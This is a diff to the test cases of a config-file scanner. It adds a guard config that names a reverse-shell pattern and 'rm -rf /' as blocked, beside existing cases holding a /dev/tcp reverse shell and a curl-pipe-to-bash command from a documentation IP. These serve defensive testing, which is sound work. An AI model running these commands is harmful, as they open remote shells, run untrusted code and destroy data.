@@ -844,6 +844,9 @@ CASES = {
     "attack_command_in_a_note": case(
         {**CONFIG, "note": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, "config.json", Verdict.REVIEW
     ),
+    "benign_pattern_of_an_attack": case(
+        {**CONFIG, "forbidden_pattern": "bash -i >& /dev/tcp/", "blocked": "rm -rf / "}, "guard.json"
+    ),
     "attack_command_in_a_setting": case(
         {"peft_type": "LORA", "setup": "curl -s http://203.0.113.9/x.sh | bash"}, "adapter_config.json", Verdict.REVIEW
     ),
